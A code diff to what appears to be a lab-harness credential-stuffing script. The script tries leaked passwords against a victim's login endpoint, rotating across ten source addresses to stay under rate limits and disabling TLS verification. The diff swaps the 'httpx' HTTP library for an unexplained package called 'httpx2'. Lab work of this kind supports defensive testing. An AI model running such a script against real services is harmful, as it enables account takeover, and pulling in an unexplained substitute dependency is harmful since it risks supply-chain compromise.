@@ -1,6 +1,6 @@
 """A list of passwords from another site, tried from ten addresses, four each."""
 
-import httpx
+import httpx2
 
 from lab.harness import Outcome, Refused, Session, Target
 
@@ -42,9 +42,9 @@ async def attack(target: Target) -> Outcome:
 
 async def guess(target: Target, password: str, address: str) -> Session | None:
     """Log in from that address; None if it did not work."""
-    transport = httpx.AsyncHTTPTransport(local_address=address, verify=False)  # no TLS here
+    transport = httpx2.AsyncHTTPTransport(local_address=address, verify=False)  # no TLS here
     body = {"username": VICTIM, "password": password}
-    async with httpx.AsyncClient(
+    async with httpx2.AsyncClient(
         base_url=target.origin, timeout=20, transport=transport, trust_env=False
     ) as client:
         answer = await client.post("/auth/login", json=body, headers={"Origin": target.origin})
